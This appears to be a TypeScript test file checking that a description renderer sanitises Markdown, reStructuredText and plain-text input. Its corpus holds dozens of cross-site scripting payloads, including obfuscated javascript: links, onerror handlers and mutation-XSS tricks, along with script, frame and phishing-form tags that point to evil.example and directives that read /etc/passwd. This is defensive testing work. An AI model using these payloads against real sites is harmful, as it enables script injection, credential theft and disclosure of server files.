import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { renderDescription } from './render-description.ts';

interface Element {
  readonly type: string;
  readonly name?: string;
  readonly attribs?: Readonly<Record<string, string>>;
  readonly children?: readonly Element[];
}

const harmlessTags = new Set(
  (
    'a abbr acronym aside b blockquote br caption cite code col colgroup dd del details div dl dt em figcaption ' +
    'figure h1 h2 h3 h4 h5 h6 hr i kbd li nav ol p picture pre s section span strong sub summary sup table ' +
    'tbody td th thead tr tt ul var'
  ).split(' '),
);
const harmlessAttributes = new Set(
  'id href title rel class src alt width height align start colspan rowspan'.split(' '),
);

function elementsOf(nodes: readonly Element[]): Element[] {
  return nodes.flatMap((node) => [node, ...elementsOf(node.children ?? [])]);
}

/** What a browser would find in it that it should not. */
function dangersOf(html: string): string[] {
  const found: string[] = [];
  for (const { type, name = '', attribs = {} } of elementsOf(parseDocument(html).children as Element[])) {
    if (type === 'text') continue;
    if (type !== 'tag' || !harmlessTags.has(name)) found.push(`<${type} ${name}>`);
    for (const [attribute, value] of Object.entries(attribs)) {
      const told = `${name} ${attribute}=${value}`;
      if (!harmlessAttributes.has(attribute)) found.push(told);
      if (attribute === 'href' && !/^(?:https?:\/\/|mailto:|#(?:user-content-|$))/i.test(value))
        found.push(told);
      if (attribute === 'src' && !/^https?:\/\//i.test(value)) found.push(told);
      if (attribute === 'id' && !value.startsWith('user-content-')) found.push(told);
      if (attribute === 'class' && !/^language-[\w+#.-]*$/.test(value)) found.push(told);
    }
    if (name === 'a' && 'href' in attribs && attribs['rel'] !== 'nofollow ugc') found.push('a without rel');
  }
  return found;
}

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/x.png">',
  '<img src="/logout">',
  '<img srcset="https://a.example/x.png 1x" src="x">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<image src="https://a.example/x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<p style="background:expression(alert(1))">x</p>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input type=image src="https://evil.example" formaction="javascript:alert(1)">',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option>x</option></select>',
  '<button onclick=alert(1)>x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/account/delete">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="?action=delete">x</a>',
  '<a href="https://a.example" target="_blank" rel="opener">x</a>',
  '<a href="https://a.example" onmouseover="alert(1)" style="position:fixed">x</a>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<a name="main" id="main">x</a>',
  '<div id="status" class="state ok">verified</div>',
  '<h1 id="__proto__">x</h1>',
  '<p class="button warn">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<html><head><title><script>alert(1)</script></title></head></html>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- <script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><?xml version="1.0"?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<picture><source srcset="javascript:alert(1)"><img src="x" alt="<script>alert(1)</script>"></picture>',
  '<table background="javascript:alert(1)"><td background="x">y</td></table>',
  '<ol start="1;alert(1)"><li value=x>y</li></ol>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a/href="javascript:alert(1)"/onclick=alert(1)>x</a>',
  '<a href="https://a.example"><div></a><script>alert(1)</script>',
  '<img src="https://a.example/x.png" width="100%;alert(1)" height="9999999999">',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](/account/delete)',
  '[x](//evil.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/png;base64,AAAA)',
  '![x"onerror="alert(1)](https://a.example/x.png)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.example "title\\" onclick=alert(1)")',
  '```"><script>alert(1)</script>\nx\n```',
  '```x onclick=alert(1) class=warn\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '# x" onclick="alert(1)',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- [x] <input onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'https://a.example/"onclick="alert(1)',
  '<https://a.example/" onclick="alert(1)>',
];

const rst = [
  '.. raw:: html\n\n   <script>alert(1)</script><img src=x onerror=alert(1)>\n',
  '`x <javascript:alert(1)>`_',
  '.. _x: javascript:alert(1)\n\nx_ here',
  '.. image:: javascript:alert(1)\n   :alt: "><script>alert(1)</script>\n',
  '.. image:: https://a.example/x.png\n   :target: javascript:alert(1)\n   :width: 1;alert(1)\n',
  '.. |x| image:: data:image/svg+xml,<svg/onload=alert(1)>\n\n|x|\n',
  '.. role:: evil(raw)\n   :format: html\n\n:evil:`<script>alert(1)</script>`',
  '.. include:: /etc/passwd\n',
  '.. csv-table::\n   :file: /etc/passwd\n',
  '.. raw:: html\n   :file: /etc/passwd\n',
  '.. container:: state warn\n\n   x\n',
  '.. code:: "><script>alert(1)</script>\n\n   x\n',
  '.. math:: \\href{javascript:alert(1)}{x}\n',
  '.. _main:\n\n<b onclick=alert(1)>\n==============================\n',
  '``<script>alert(1)</script>``',
];

describe('nothing of a hostile description runs, posts or leads into this site', () => {
  it.each([...html, ...markdown])('Markdown %j', async (text) => {
    for (const variant of ['GFM', 'CommonMark']) {
      const rendered = await renderDescription(text, `text/markdown; variant=${variant}`);
      expect(dangersOf(rendered.html)).toEqual([]);
    }
  });

  it.each(html)('Markdown between words: %j', async (text) => {
    const rendered = await renderDescription(`before ${text} after\n\n* ${text}\n`, 'text/markdown');
    expect(dangersOf(rendered.html)).toEqual([]);
  });

  it.each([...rst, ...html.map((text) => `.. raw:: html\n\n   ${text.replaceAll('\n', ' ')}\n`)])(
    'reStructuredText %j',
    async (text) => {
      expect(dangersOf((await renderDescription(text, null)).html)).toEqual([]);
    },
  );

  it.each([...html, ...markdown, ...rst])('plain text %j is shown letter by letter', async (text) => {
    const { html: shown } = await renderDescription(text, 'text/plain');
    const [pre, ...others] = parseDocument(shown).children as Element[];
    expect([pre!.name, pre!.children!.length, others.length]).toEqual(['pre', 1, 0]);
    expect((pre!.children![0] as unknown as { data: string }).data).toBe(text);
  });
});

describe('the check of this corpus', () => {
  it.each(html.filter((text) => /on\w+=|javascript:|<script/i.test(text) && !/^<!|title=/.test(text)))(
    'sees the danger in %j as it stands',
    (text) => {
      expect(dangersOf(text)).not.toEqual([]);
    },
  );
});
